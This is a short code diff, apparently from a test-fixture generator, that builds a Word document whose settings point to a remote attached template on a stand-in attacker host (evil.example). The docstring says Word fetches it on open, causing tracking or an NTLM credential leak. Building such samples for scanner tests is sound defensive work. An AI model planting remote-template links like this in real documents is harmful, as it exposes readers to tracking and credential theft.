@@ -94,11 +94,12 @@ def sect_pr(pattern: str, replacement: str):
 
 
 def attached_template(folder: Path) -> Path:
-    """settings.xml attaches a remote template (Word fetches it on open: a tracking or NTLM leak)."""
+    """settings.xml attaches a remote template (Word fetches it on open: a tracking or NTLM leak)
+    and asks for its styles to be copied in."""
     return repack(
         folder / "template-attached.docx",
         replace={
-            "word/settings.xml": lambda b: b.replace(b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:zoom '),
+            "word/settings.xml": lambda b: b.replace(b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:linkStyles/><w:zoom '),
             "word/_rels/settings.xml.rels": add_rels(
                 rel("rIdT", "attachedTemplate", "https://evil.example/school.dotm", external=True)
             ),
